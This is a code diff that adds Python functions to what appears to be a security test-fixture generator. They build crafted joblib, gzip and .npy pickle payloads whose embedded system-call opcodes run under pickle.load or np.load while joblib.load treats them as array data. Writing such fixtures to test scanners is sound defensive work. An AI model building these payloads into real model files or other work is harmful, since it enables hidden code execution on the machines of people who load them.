@@ -481,3 +481,44 @@ def zip64_locator_elsewhere(marker: str) -> bytes:
         local + record(len(evil_cd), evil_at) + evil_cd + benign_cd
         + record(len(benign_cd), benign_at) + locator + end
     )  # fmt: skip
+
+
+def _object_dtype() -> bytes:
+    state = b"(K\x03" + su("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ft"
+    return sglob("numpy", "dtype") + su("O8") + b"\x89\x88\x87R" + state + b"b"
+
+
+def joblib_wrapper(count: int, dtype: bytes) -> bytes:
+    """A NumpyArrayWrapper made by NEWOBJ and given its header by BUILD (no alignment byte):
+    joblib.load reads ``count`` elements of data after it; pickle.load just builds it."""
+    pairs = su("subclass") + sglob("numpy", "ndarray") + su("shape")
+    pairs += b"M" + struct.pack("<H", count) + b"\x85" + su("order") + su("C") + su("dtype") + dtype
+    return sglob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + pairs + b"ub"
+
+
+def joblib_array_read_by_pickle(marker: str) -> bytes:
+    """To joblib.load, an array whose bytes are opcodes; to pickle.load and np.load, which
+    read no data after the wrapper, those opcodes run."""
+    evil = system_call(marker, proto=4) + b"0"
+    return b"\x80\x04" + joblib_wrapper(len(evil), _dtype("u1")) + evil + b"."
+
+
+def joblib_array_read_by_pickle_gzip(marker: str) -> bytes:
+    """The same, gzip-compressed (pickle.load(gzip.open(path))): a stream read once."""
+    return gzip.compress(joblib_array_read_by_pickle(marker))
+
+
+def joblib_object_array_with_wrapper(marker: str) -> bytes:
+    """joblib reads an object array's data with plain pickle.load: a wrapper inside it reads
+    no array data, so the opcodes after it run."""
+    return (
+        b"\x80\x04"
+        + joblib_wrapper(1, _object_dtype())
+        + joblib_array_read_by_pickle(marker)
+        + b"."
+    )
+
+
+def npy_object_pickle_with_wrapper(marker: str) -> bytes:
+    """An object .npy whose pickle holds a wrapper: np.load runs it with pickle.load."""
+    return as_npy(joblib_array_read_by_pickle(marker))
